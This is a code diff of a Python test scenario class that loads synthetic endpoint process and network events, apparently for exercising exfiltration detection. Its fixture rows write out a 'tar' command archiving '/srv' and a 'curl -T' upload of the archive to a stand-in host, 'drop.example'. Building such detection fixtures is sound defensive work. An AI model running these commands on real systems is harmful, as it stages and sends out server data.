@@ -63,14 +63,21 @@ class Scene:
         where = {"DeviceId": device_id(name), "DeviceName": name}
         packed = {"FileName": "tar", "ProcessCommandLine": f"tar -czf /tmp/{address}.tgz /srv"}
         self.engine.load("DeviceProcessEvents", [{**where, **packed, "Timestamp": when}])
-        sent = {
+        self.call(at + timedelta(seconds=1), name, address, count)
+
+    def call(self, at: timedelta, name: str = SERVER, address: str = ADDRESS, count: int = 1) -> None:
+        """Connect a device to an address *count* times from *at* on, counted from the start."""
+        row = {
+            "DeviceId": device_id(name),
+            "DeviceName": name,
             "InitiatingProcessFileName": "curl",
             "InitiatingProcessCommandLine": f"curl -T /tmp/{address}.tgz https://drop.example",
             "RemoteIP": address,
             "RemoteIPType": "Public",
             "RemotePort": 443,
         }
-        rows = [{**where, **sent, "Timestamp": when + timedelta(seconds=1 + n / 100)} for n in range(count)]
+        first = self.start + at
+        rows = [{**row, "Timestamp": first + timedelta(seconds=number / 100)} for number in range(count)]
         self.engine.load("DeviceNetworkEvents", rows)
 
     def incident(
